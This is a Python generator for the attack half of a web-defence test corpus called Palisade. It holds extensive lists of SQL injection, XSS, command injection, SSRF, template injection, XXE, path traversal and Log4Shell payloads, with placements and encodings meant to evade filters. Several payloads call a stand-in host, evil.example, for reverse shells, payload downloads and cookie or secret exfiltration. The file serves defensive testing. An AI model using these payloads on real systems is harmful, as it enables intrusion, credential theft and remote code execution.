"""Attack half of the Palisade efficacy corpus.

Base payloads per category are combined with placements (where in the request
the payload travels) and encodings (how it is disguised). Output is
deterministic for a given seed.
"""

import base64
import json
import random
import urllib.parse

SQLI = [
    "' OR '1'='1", "' OR 1=1-- -", "admin'--", "admin' #", "1' AND 1=1--",
    "1 AND 1=2 UNION SELECT username,password FROM users",
    "-1' UNION SELECT NULL,NULL,NULL--", "1' ORDER BY 10--", "1' GROUP BY 1,2,3--",
    "' UNION ALL SELECT table_name,NULL FROM information_schema.tables--",
    "1; DROP TABLE users--", "1'; EXEC xp_cmdshell('whoami')--", "1' AND SLEEP(5)-- ",
    "1 AND (SELECT * FROM (SELECT(SLEEP(5)))x)", "1'; WAITFOR DELAY '0:0:5'--",
    "1) OR pg_sleep(5)--", "' AND 1=CONVERT(int,(SELECT @@version))--",
    "' AND extractvalue(rand(),concat(0x3a,version()))-- ",
    "1' AND updatexml(1,concat(0x7e,(SELECT user())),1)--", "' OR 'x'='x", "\" OR \"\"=\"",
    "') OR ('1'='1", "1 OR 1=1", "1' OR '1'='1' /*", "' or 1 like 1--",
    "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
    "' HAVING 1=1--", "1' AND (SELECT COUNT(*) FROM users)>0--", "admin' OR 1=1 LIMIT 1-- -",
    "'; INSERT INTO users(name,role) VALUES('x','admin')--",
    "1'; UPDATE users SET role='admin' WHERE name='me'--",
    "' UNION SELECT load_file('/etc/passwd')--", "1 INTO OUTFILE '/var/www/shell.php'",
    "' OR EXISTS(SELECT 1 FROM users WHERE name='admin')--",
    "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))",
    "' AND 1=(SELECT 1 FROM dual WHERE 1=1)--", "' || (SELECT version()) || '",
    "1 AND BENCHMARK(5000000,MD5(1))", "x' AND email IS NULL; --", "1;SELECT pg_sleep(10)",
    "' OR true--", "%' AND 1=1 AND '%'='", "1' and '1'='1", "' AND IF(1=1,SLEEP(5),0)--",
    "SELECT * FROM users WHERE id=1 OR 1=1", "1' UNION SELECT 1,2,3 INTO DUMPFILE '/tmp/x'--",
    "10 AND 3=3", "' OR username IS NOT NULL OR username = '", "1)) OR ((1=1",
    "0 UNION SELECT @@version,2", "1' OR SLEEP(3)#", "'; SHUTDOWN--",
]

XSS = [
    "<script>alert(1)</script>", "<ScRiPt>alert(document.cookie)</sCrIpT>",
    "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=confirm`1`>",
    "<body onload=alert('xss')>", "\"><script>alert(1)</script>", "'><img src=x onerror=prompt(1)>",
    "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='",
    "<iframe src=\"javascript:alert(1)\"></iframe>", "<a href=\"javascript:alert(1)\">click</a>",
    "javascript:alert(document.domain)",
    "<img src=\"x\" onerror=\"fetch('https://evil.example/?c='+document.cookie)\">",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=\"javascript:alert(1)\">", "<link rel=import href=\"https://evil.example/x.html\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<div style=\"background:url(javascript:alert(1))\">", "<marquee onstart=alert(1)>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<img src=1 oNeRrOr=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<form action=\"javascript:alert(1)\"><input type=submit>",
    "<button formaction=javascript:alert(1)>x</button>",
    "';alert(String.fromCharCode(88,83,83))//", "\";alert(1);//",
    "</script><script>alert(1)</script>", "<base href=\"https://evil.example/\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>", "<body onpageshow=alert(1)>",
    "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>X</text></a></svg>",
    "data:text/html,<script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<x onclick=alert(1)>click me", "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<img src=x onerror=\"this.src='//evil.example/?'+document.cookie\">",
    "<svg><script>alert&#40;1&#41;</script>", "<audio src=x onerror=alert(1)>",
    "\"autofocus onfocus=alert(1) x=\"", "<div onpointerover=\"alert(1)\">MOVE HERE</div>",
]

NOSQL_KEYS = [
    ("username", {"$ne": None}), ("password", {"$ne": ""}), ("age", {"$gt": ""}),
    ("user", {"$regex": "^adm"}), ("name", {"$in": ["admin", "root"]}), ("token", {"$exists": True}),
    ("email", {"$nin": [""]}), ("login", {"$gte": " "}), ("pin", {"$lt": 99999}),
    ("role", {"$not": {"$eq": "user"}}), ("id", {"$where": "sleep(5000)"}),
    ("password", {"$regex": ".*"}), ("price", {"$lte": 0}),
]
NOSQL_TOP = [
    {"$where": "this.password.length > 0"}, {"$or": [{"role": "admin"}, {"a": 1}]},
    {"$expr": {"$gt": ["$balance", 0]}}, {"$where": "function(){ return true; }"},
    {"$and": [{"user": "admin"}, {"password": {"$ne": 1}}]}, {"$nor": [{"x": 1}]},
]
NOSQL_PARAMS = [
    "user[$ne]=x&pass[$ne]=x", "username[$regex]=.*&password[$regex]=.*", "login[$gt]=&pwd[$gt]=",
    "id[$exists]=true", "email[$ne]=a@b.c", "role[$in][]=admin", "password[$nin][]=x",
    "user[$eq]=admin&password[$ne]=1", "q[$where]=sleep(100)", "filter[age][$gt]=0",
]
NOSQL_VALUES = [
    "'; return true; var x='", "1; return true", "'; sleep(5000); var a='",
    "this.password.match(/.*/)//", "admin' && this.password.match(/.*/)//",
    "true, $where: '1 == 1'", ", $where: 'sleep(1000)'", "{\"$gt\": \"\"}", "{\"$ne\": null}",
    "[$ne]=1", "'; return this.role == 'admin'; var b='",
]

CMDI = [
    "; cat /etc/passwd", "| id", "|| whoami", "&& uname -a", "& ping -c 10 127.0.0.1 &", "`whoami`",
    "$(id)", "; ls -la /", "127.0.0.1; nc -e /bin/sh evil.example 4444",
    "test.txt | wget http://evil.example/x.sh -O /tmp/x.sh", "; curl http://evil.example/s | sh",
    "$(curl -s http://evil.example/p)", "| powershell -enc SQBFAFgA", "& dir c:\\",
    "& type C:\\Windows\\win.ini", "; sleep 10", "| sleep 5 |", "a;${IFS}cat${IFS}/etc/passwd",
    ";c'a't /e't'c/pa's's'wd", "\nid\n", "\n/bin/cat /etc/passwd",
    "; /bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "|| ping -n 5 127.0.0.1", "; echo vulnerable",
    "`cat /etc/shadow`", "$(sleep 5)", "; nslookup evil.example", "| nslookup x.evil.example",
    "& certutil -urlcache -split -f http://evil.example/x.exe",
    "; python -c 'import os;os.system(\"id\")'", "|perl -e 'print 1'", "; php -r 'system(\"id\");'",
    "&& busybox nc evil.example 1 -e sh", "; chmod +x /tmp/x; /tmp/x", ";netstat -an", "| ifconfig",
    "& ipconfig /all", "; systeminfo", "| tasklist", "$(whoami).evil.example", "x||ls",
    "1;uname${IFS}-a", ";{cat,/etc/passwd}", "a%0Aid", "foo.jpg; rm -rf /", "`id`.evil.example",
    "| cmd /c dir", "; w'h'o'am'i", "0&&who\\ami", "$(printf 'id')",
]

TRAVERSAL = [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//....//etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%252f..%252fetc%252fpasswd",
    "/etc/passwd", "/etc/shadow", "../../../../../../proc/self/environ", "/proc/self/cmdline",
    "..%c0%af..%c0%afetc%c0%afpasswd", "../../../../var/log/apache2/access.log",
    "../../../../../../windows/system32/drivers/etc/hosts", "C:\\Windows\\System32\\config\\SAM",
    "file:///etc/passwd", "php://filter/convert.base64-encode/resource=../config.php", "php://input",
    "expect://id", "zip://uploads/avatar.jpg#shell.php", "phar://uploads/x.phar/x",
    "../../../../etc/passwd%00.jpg", "..;/..;/WEB-INF/web.xml", "/var/www/html/.htaccess",
    "....\\\\....\\\\boot.ini", "../../../../../../../../etc/hosts", ".../.../.../etc/passwd",
    "/../../../../etc/group", "..\\/..\\/etc/passwd", "static/../../../../app/config/secrets.yml",
    "~/.ssh/id_rsa", "../../.env", "..%5c..%5c..%5cwindows%5cwin.ini", "%252e%252e%252fetc%252fpasswd",
    "/proc/self/fd/0", "../../../../root/.bash_history", "..%u2216..%u2216etc%u2216passwd",
    "/etc/nginx/nginx.conf", "../../../../usr/local/app/.git/config", "WEB-INF/../../../../etc/passwd",
]

RFI = [
    "http://evil.example/shell.txt?", "https://evil.example/c99.php?", "http://203.0.113.7/r57.txt??",
    "ftp://evil.example/backdoor.php", "http://evil.example/x.php%00", "\\\\evil.example\\share\\shell.php",
    "https://pastebin.example/raw/abc123?", "http://evil.example/shell.txt#",
    "http://198.51.100.23/inc.txt", "http://evil.example/shell.php?cmd=id",
    "https://evil.example/payload.txt?", "http://evil.example:8080/php/shell.inc?",
    "ftp://anonymous@203.0.113.9/x.txt", "http://evil.example/x.jpg?", "HTTP://EVIL.EXAMPLE/SHELL.TXT?",
    "http://192.0.2.77/backdoor.php", "https://evil.example/cmd.php?c=whoami",
    "\\\\203.0.113.7\\pub\\evil.php", "http://evil.example/r.txt?%00", "http://evil.example/?",
]
RFI_PARAMS = ["page", "file", "include", "inc", "template", "module", "lang", "path", "doc", "layout"]

SSRF = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://100.100.100.200/latest/meta-data/", "http://127.0.0.1:8080/admin", "http://localhost:6379/",
    "http://[::1]:22/", "http://0.0.0.0:9200/_cat/indices", "http://2130706433/", "http://0x7f.0x0.0x0.0x1/",
    "http://0177.0.0.01/", "http://127.1/server-status", "http://[::ffff:7f00:1]/",
    "http://10.0.0.12:8500/v1/agent/self", "http://192.168.1.1/cgi-bin/luci",
    "http://172.17.0.1:2375/containers/json", "gopher://127.0.0.1:6379/_FLUSHALL",
    "dict://localhost:11211/stats", "file:///etc/passwd", "http://evil.example@127.0.0.1/",
    "http://127.0.0.1.nip.io/admin", "http://localtest.me/", "http://[fd00:ec2::254]/latest/meta-data/",
    "http://169.254.170.2/v2/credentials", "http://metadata/computeMetadata/v1/", "tftp://evil.example/x",
    "ldap://127.0.0.1:389/", "http://0/", "http://169.254.169.254.nip.io/",
    "https://kubernetes.default.svc/api/v1/secrets", "http://internal-api.local/admin",
    "jar:http://127.0.0.1!/", "169.254.169.254", "127.0.0.1:6379", "http://LOCALHOST:5000/",
    "http://[0:0:0:0:0:ffff:127.0.0.1]/", "http://0x7f000001:80/", "https://127.0.0.1/latest",
    "gopher://evil.example:25/_MAIL%20FROM", "netdoc:///etc/passwd",
]
SSRF_PARAMS = ["url", "callback", "webhook", "image_url", "redirect", "target", "feed", "endpoint", "uri", "host"]

SSTI = [
    "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "*{7*7}", "{{7*'7'}}", "{{config.items()}}",
    "{{self.__init__.__globals__.__builtins__}}", "{{''.__class__.__mro__[2].__subclasses__()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "#set($x=$class.inspect(\"java.lang.Runtime\"))", "{{constructor.constructor('return process')()}}",
    "{php}echo `id`;{/php}",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "${{7*7}}", "{% import os %}{{ os.popen('id').read() }}", "{{lipsum.__globals__.os.popen('id').read()}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}", "@{7*7}", "[[${7*7}]]", "{{=7*7}}",
    "{{ 7 * 7 }}", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "#{T(java.lang.System).getenv()}", "${{<%[%'\"}}%\\.", "{{get_flashed_messages.__globals__}}",
    "{{url_for.__globals__['current_app'].config}}", "${7777+1}", "{{1337*1337}}",
    "<%= system('id') %>", "#{7*'7'}", "{{ [].__class__.__base__.__subclasses__() }}",
]

LDAP = [
    "*)(uid=*))(|(uid=*", "*)(|(password=*))", "admin)(&)", "admin)(|(objectClass=*)",
    "*)(objectClass=*", "x*)(|(cn=*", "*)(&(objectClass=user)(cn=*", ")(cn=*))(|(cn=*",
    "admin*)((|userPassword=*)", "*))%00", "(&(uid=*)(userPassword=*))", "*)(mail=*@example.com",
    "jdoe)(|(mail=*)", "*)(!(cn=x)", "admin)(!(&(1=0", "*(|(objectclass=*))", "*)(sn=*",
    "admin))(|(uid=*", "x)(uid=admin)(|(uid=x", "*)(department=*",
]

XPATH = [
    "' or '1'='1", "' or ''='", "x' or 1=1 or 'x'='y", "' or count(/*)=1 or '",
    "' or name()='username' or 'x'='y", "']|//*|//*['", "' and string-length(name(/*[1]))>0 or '",
    "1 or 1=1", "' or contains(name(parent::*),'user') or '", "') or ('a'='a",
    "' or //user[position()=1] or '", "admin' or '1'='1' and '",
    "' or substring(//user[1]/password,1,1)='a' or '", "x']|//password|//x['", "' or text()='x",
    "\" or \"1\"=\"1", "' or local-name(/*)='root' or '", "1' or count(//user/child::node())>0 or '1",
    "' or last()>0 or '", "x' or starts-with(//user/name,'a') or '",
]

XXE_DOCS = [
    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://evil.example/evil.dtd"> %xxe;]><foo>x</foo>',
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>',
    '<?xml version="1.0"?><!DOCTYPE foo SYSTEM "http://evil.example/x.dtd"><foo>1</foo>',
    '<?xml version="1.0"?><!DOCTYPE root PUBLIC "-//A//B//EN" "http://evil.example/x.dtd"><root/>',
    '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
    '<!DOCTYPE x [ <!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=index.php"> ]><x>&xxe;</x>',
    '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE data [<!ENTITY file SYSTEM "file:///c:/windows/win.ini">]><data>&file;</data>',
    '<!doctype r [<!entity e system "http://169.254.169.254/latest/meta-data/">]><r>&e;</r>',
    '<?xml version="1.0"?><!DOCTYPE  order[<!ENTITY  a  SYSTEM "expect://id">]><order><id>&a;</id></order>',
    '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/hosts">]><soap:Body><q>&y;</q></soap:Body></soap:Envelope>',
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % remote SYSTEM "https://evil.example/x.dtd">%remote;%int;%trick;]><svg/>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ELEMENT r ANY><!ENTITY sp SYSTEM "http://127.0.0.1:8080/admin">]><r>&sp;</r>',
]
SVG_XXE = '<?xml version="1.0" standalone="yes"?><!DOCTYPE test [ <!ENTITY xxe SYSTEM "file:///etc/hostname" > ]><svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg"><text font-size="16" x="0" y="16">&xxe;</text></svg>'

CRLF = [
    "%0d%0aSet-Cookie: session=attacker", "\r\nLocation: https://evil.example",
    "%0d%0aContent-Length: 0%0d%0a%0d%0aHTTP/1.1 200 OK", "%E5%98%8A%E5%98%8DSet-Cookie: x=y",
    "\nX-Injected: true", "%0aRefresh: 0; url=https://evil.example", "foo%0d%0aAccess-Control-Allow-Origin: *",
    "%0D%0ASet-Cookie:%20admin=true", "/%0d%0aLocation:%20//evil.example", "\r\n\r\n<script>alert(1)</script>",
    "en%0d%0aX-XSS-Protection: 0", "home%0D%0AContent-Type: text/html", "%0d%0a%0d%0a<html>owned</html>",
    "x\r\nSet-Cookie: role=admin", "%0d%0aCache-Control: public, max-age=99999",
]

JNDI = [
    "${jndi:ldap://evil.example/a}", "${jndi:rmi://evil.example:1099/x}", "${jndi:dns://evil.example/x}",
    "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/x}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.example/a}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/a}", "${jndi:ldaps://evil.example/a}",
    "${jndi:iiop://evil.example/a}", "${${upper:j}ndi:ldap://evil.example/a}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/a}",
    "${jndi:ldap://127.0.0.1#evil.example:1389/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a}",
    "${jnd${upper:\u0131}:ldap://evil.example/a}", "${env:AWS_SECRET_ACCESS_KEY}", "${sys:java.version}",
    "${${lower:${lower:jndi}}:${lower:rmi}://evil.example/x}", "${jndi:nis://evil.example/x}",
    "Mozilla/5.0 ${jndi:ldap://evil.example/ua}", "${${::-J}NDI:LDAP://evil.example/a}",
]

PROTO_PARAMS = [
    "__proto__[isAdmin]=true", "constructor[prototype][isAdmin]=true", "__proto__.isAdmin=true",
    "a[__proto__][b]=1", "user[__proto__][role]=admin", "__proto__[toString]=x",
    "constructor.prototype.polluted=1", "x[constructor][prototype][y]=1", "__pro__proto__to__[a]=1",
]
PROTO_JSON = [
    {"__proto__": {"isAdmin": True}}, {"constructor": {"prototype": {"isAdmin": True}}},
    {"user": {"settings": {"__proto__": {"polluted": 1}}}},
    {"items": [{"__proto__": {"role": "admin"}}]}, {"a": {"constructor": {"prototype": {"shell": "/bin/sh"}}}},
    {"__proto__": {"outputFunctionName": "x;process.mainModule.require('child_process').execSync('id');x"}},
]


def enc_query(s):
    return urllib.parse.quote(s, safe="")


def rand_case(rng, s):
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in s)


def sql_comment_spaces(s):
    return s.replace(" ", "/**/")


def json_unicode(s):
    return "".join(c if c.isalnum() else "\\u%04x" % ord(c) for c in s)


def html_entities(s):
    return "".join("&#%d;" % ord(c) if c in "<>\"'()" else c for c in s)


def xml_escape(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0 Safari/537.36"


class Builder:
    def __init__(self, rng, category):
        self.rng = rng
        self.category = category
        self.cases = []
        self.n = 0

    def add(self, method, target, headers=None, body=None, note=None):
        self.n += 1
        case = {
            "id": "%s-%04d" % (self.category, self.n),
            "label": "attack",
            "category": self.category,
            "method": method,
            "target": target,
            "headers": [["user-agent", UA]] + (headers or []),
        }
        if body is not None:
            case["body"] = body
        if note:
            case["note"] = note
        self.cases.append(case)

    # placements -------------------------------------------------------
    def query(self, p, param="q", raw_encoded=False, extra="&page=1"):
        v = urllib.parse.quote(p, safe="%") if raw_encoded else enc_query(p)
        self.add("GET", "/api/v1/search?%s=%s%s" % (param, v, extra), note="query")

    def path(self, p, raw_encoded=False):
        v = urllib.parse.quote(p, safe="%") if raw_encoded else enc_query(p)
        self.add("GET", "/api/v1/files/%s" % v, note="path")

    def header(self, p, name="user-agent"):
        if any(ord(c) < 0x20 and c != "\t" for c in p) or any(ord(c) > 0x7e for c in p):
            p = enc_query(p)
        headers = [[name, p]]
        if name == "user-agent":
            self.n += 1
            self.cases.append({"id": "%s-%04d" % (self.category, self.n), "label": "attack", "category": self.category,
                               "method": "GET", "target": "/api/v1/profile", "headers": headers, "note": "header"})
            return
        self.add("GET", "/api/v1/profile", headers, note="header")

    def cookie(self, p):
        self.add("GET", "/api/v1/cart", [["cookie", "sid=8f14e45fceea167a5a36dedd4bea2543; pref=%s" % enc_query(p)]], note="cookie")

    def json(self, p, key="note", method="POST", url="/api/v1/orders", encoding=None):
        doc = {"order": {"id": 1042, "items": [{"sku": "A-100", "qty": 2, key: "__P__"}], "currency": "EUR"}}
        text = json.dumps(doc)
        if encoding == "unicode":
            inner = json_unicode(p)
        else:
            inner = json.dumps(p)[1:-1]
        text = text.replace("__P__", inner)
        self.add(method, url, [["content-type", "application/json"]], text, note="json")

    def json_doc(self, doc, url="/api/v1/login"):
        self.add("POST", url, [["content-type", "application/json"]], json.dumps(doc), note="json-doc")

    def form(self, p, field="comment", encode_twice=False):
        v = enc_query(p)
        if encode_twice:
            v = enc_query(v)
        body = "name=Jane+Doe&%s=%s&submit=Send" % (field, v)
        self.add("POST", "/contact", [["content-type", "application/x-www-form-urlencoded"]], body, note="form")

    def multipart(self, p, field="description", filename=None, content="hello", ctype="text/plain"):
        b = "----palisadeBoundary7MA4YWxk"
        parts = []
        parts.append('--%s\r\nContent-Disposition: form-data; name="title"\r\n\r\nHoliday photos\r\n' % b)
        if filename is None:
            parts.append('--%s\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n' % (b, field, p))
        else:
            parts.append('--%s\r\nContent-Disposition: form-data; name="file"; filename="%s"\r\nContent-Type: %s\r\n\r\n%s\r\n' % (b, filename, ctype, content))
        body = "".join(parts) + "--%s--\r\n" % b
        self.add("POST", "/api/v1/upload", [["content-type", "multipart/form-data; boundary=%s" % b]], body, note="multipart")

    def xml(self, p, attr=False):
        if attr:
            body = '<?xml version="1.0"?><order id="7"><customer name="%s"/><total>12.50</total></order>' % xml_escape(p)
        else:
            body = '<?xml version="1.0"?><order id="7"><customer>%s</customer><total>12.50</total></order>' % xml_escape(p)
        self.add("POST", "/api/v1/orders.xml", [["content-type", "application/xml"]], body, note="xml")

    def graphql(self, p, inline=False):
        if inline:
            q = '{ search(term: %s) { id name } }' % json.dumps(p)
            doc = {"query": q}
        else:
            doc = {"query": "mutation AddNote($text: String!) { addNote(text: $text) { id } }", "variables": {"text": p}}
        self.add("POST", "/graphql", [["content-type", "application/json"]], json.dumps(doc), note="graphql")

    def base64_param(self, p, param="data"):
        v = base64.b64encode(p.encode()).decode()
        self.query(v, param=param)


def generic_spread(b, payloads, rng, params, per_payload=7, allow=("query", "path", "header", "cookie", "json", "form", "multipart", "xml", "graphql", "b64", "double", "unicode"), mutate=None):
    for p in payloads:
        choices = list(allow)
        rng.shuffle(choices)
        for placement in choices[:per_payload]:
            q = mutate(rng, p) if mutate and rng.random() < 0.4 else p
            param = rng.choice(params)
            if placement == "query":
                b.query(q, param=param)
            elif placement == "path":
                b.path(q)
            elif placement == "header":
                b.header(q, rng.choice(["user-agent", "x-forwarded-for", "referer", "x-api-version"]))
            elif placement == "cookie":
                b.cookie(q)
            elif placement == "json":
                b.json(q, key=param)
            elif placement == "form":
                b.form(q, field=param)
            elif placement == "multipart":
                b.multipart(q, field=param)
            elif placement == "xml":
                b.xml(q, attr=rng.random() < 0.4)
            elif placement == "graphql":
                b.graphql(q, inline=rng.random() < 0.4)
            elif placement == "b64":
                b.base64_param(q, param=param)
            elif placement == "double":
                b.query(enc_query(enc_query(q)), param=param, raw_encoded=True)
            elif placement == "unicode":
                b.json(q, key=param, encoding="unicode")


def sqli_mutate(rng, p):
    r = rng.random()
    if r < 0.35:
        return rand_case(rng, p)
    if r < 0.7:
        return sql_comment_spaces(p)
    return p.replace(" ", rng.choice(["\t", "\n", "  "]))


def xss_mutate(rng, p):
    return rand_case(rng, p) if "javascript" not in p.lower() else p


def build_all(seed=20261123):
    rng = random.Random(seed)
    out = {}

    b = Builder(rng, "sql_injection")
    generic_spread(b, SQLI, rng, ["id", "q", "user", "name", "sort", "category", "search", "filter"], 7, mutate=sqli_mutate)
    out["sql_injection"] = b.cases

    b = Builder(rng, "xss")
    generic_spread(b, XSS, rng, ["q", "comment", "name", "title", "bio", "message", "redirect"], 7, mutate=xss_mutate)
    for p in XSS[:15]:
        b.json(html_entities(p), key="bio") if rng.random() < 0.5 else b.form(html_entities(p), field="message")
        b.multipart("x", filename=p.replace('"', "'") + ".png", content="GIF89a", ctype="image/gif")
    out["xss"] = b.cases

    b = Builder(rng, "nosql_injection")
    for key, val in NOSQL_KEYS:
        b.json_doc({key: val, "password" if key != "password" else "username": "hunter2"})
        b.json_doc({"filter": {"customer": {key: val}}, "limit": 10}, url="/api/v1/orders/search")
        b.json(json.dumps({key: val}), key="filter")
    for doc in NOSQL_TOP:
        b.json_doc(doc)
        b.json_doc({"query": {"where": doc}}, url="/api/v1/search")
    for q in NOSQL_PARAMS:
        b.add("GET", "/api/v1/login?" + urllib.parse.quote(q, safe="=&"), note="query")
        b.add("GET", "/api/v1/login?" + q, note="query-raw-brackets")
        b.add("POST", "/login", [["content-type", "application/x-www-form-urlencoded"]], q, note="form")
    generic_spread(b, NOSQL_VALUES, rng, ["user", "password", "q", "filter", "name"], 6, allow=("query", "json", "form", "cookie", "unicode", "double", "multipart", "graphql"))
    out["nosql_injection"] = b.cases

    b = Builder(rng, "command_injection")
    generic_spread(b, CMDI, rng, ["host", "ip", "file", "cmd", "target", "domain", "filename", "q"], 7)
    for p in CMDI[:12]:
        b.multipart("x", filename="report.pdf" + p.replace('"', "'"), content="%PDF-1.4")
    out["command_injection"] = b.cases

    b = Builder(rng, "path_traversal")
    for p in TRAVERSAL:
        pre_encoded = "%" in p
        choices = ["query", "json", "form", "cookie", "multipart_name", "path", "xml", "header", "double", "unicode"]
        rng.shuffle(choices)
        for placement in choices[:7]:
            param = rng.choice(["file", "path", "template", "doc", "download", "img", "name", "page"])
            if placement == "query":
                b.query(p, param=param, raw_encoded=pre_encoded)
            elif placement == "path":
                b.path(p, raw_encoded=pre_encoded)
            elif placement == "double":
                b.query(enc_query(p), param=param, raw_encoded=True)
            elif placement == "json":
                b.json(p, key=param)
            elif placement == "unicode":
                b.json(p, key=param, encoding="unicode")
            elif placement == "form":
                b.form(p, field=param)
            elif placement == "cookie":
                b.cookie(p)
            elif placement == "multipart_name":
                b.multipart("x", filename=p, content="data")
            elif placement == "xml":
                b.xml(p, attr=True)
            elif placement == "header":
                b.header(p, "x-original-url")
    out["path_traversal"] = b.cases

    b = Builder(rng, "remote_file_inclusion")
    for p in RFI:
        for _ in range(6):
            placement = rng.choice(["query", "query", "json", "form", "multipart", "double", "xml"])
            param = rng.choice(RFI_PARAMS)
            if placement == "query":
                b.query(p, param=param)
            elif placement == "double":
                b.query(enc_query(enc_query(p)), param=param, raw_encoded=True)
            elif placement == "json":
                b.json(p, key=param)
            elif placement == "form":
                b.form(p, field=param)
            elif placement == "multipart":
                b.multipart(p, field=param)
            elif placement == "xml":
                b.xml(p, attr=True)
    out["remote_file_inclusion"] = b.cases

    b = Builder(rng, "ssrf")
    generic_spread(b, SSRF, rng, SSRF_PARAMS, 6, allow=("query", "json", "form", "multipart", "xml", "graphql", "double", "unicode", "b64"))
    out["ssrf"] = b.cases

    b = Builder(rng, "template_injection")
    generic_spread(b, SSTI, rng, ["name", "template", "q", "greeting", "subject", "message"], 7, allow=("query", "json", "form", "multipart", "xml", "graphql", "double", "unicode", "cookie", "header", "path"))
    out["template_injection"] = b.cases

    b = Builder(rng, "ldap_injection")
    generic_spread(b, LDAP, rng, ["user", "username", "uid", "cn", "q", "login"], 8, allow=("query", "json", "form", "multipart", "xml", "cookie", "double", "unicode", "path", "graphql"))
    out["ldap_injection"] = b.cases

    b = Builder(rng, "xpath_injection")
    generic_spread(b, XPATH, rng, ["user", "name", "q", "id", "login", "category"], 8, allow=("query", "json", "form", "multipart", "xml", "cookie", "double", "unicode", "graphql"))
    out["xpath_injection"] = b.cases

    b = Builder(rng, "xxe")
    for doc in XXE_DOCS:
        for ct in ["application/xml", "text/xml", "application/soap+xml", "application/rss+xml"]:
            b.add("POST", "/api/v1/import", [["content-type", ct]], doc, note="xml-body")
        b.add("POST", "/api/v1/import", [], doc, note="xml-body-no-ct")
        b.json(doc, key="xml")
        b.form(doc, field="payload")
        b.multipart("x", filename="data.xml", content=doc, ctype="application/xml")
    b.multipart("x", filename="avatar.svg", content=SVG_XXE, ctype="image/svg+xml")
    b.multipart("x", filename="avatar.png", content=SVG_XXE, ctype="image/svg+xml")
    out["xxe"] = b.cases

    b = Builder(rng, "crlf_injection")
    for p in CRLF:
        pre = "%" in p
        for _ in range(6):
            placement = rng.choice(["query", "query", "path", "form", "json", "cookie", "double"])
            param = rng.choice(["redirect", "next", "lang", "return_to", "url", "page"])
            if placement == "query":
                b.query(p, param=param, raw_encoded=pre)
            elif placement == "path":
                b.path(p, raw_encoded=pre)
            elif placement == "double":
                b.query(enc_query(p if not pre else urllib.parse.unquote(p)), param=param, raw_encoded=True)
            elif placement == "form":
                b.form(urllib.parse.unquote(p) if pre else p, field=param)
            elif placement == "json":
                b.json(urllib.parse.unquote(p) if pre else p, key=param)
            elif placement == "cookie":
                b.cookie(urllib.parse.unquote(p) if pre else p)
    out["crlf_injection"] = b.cases

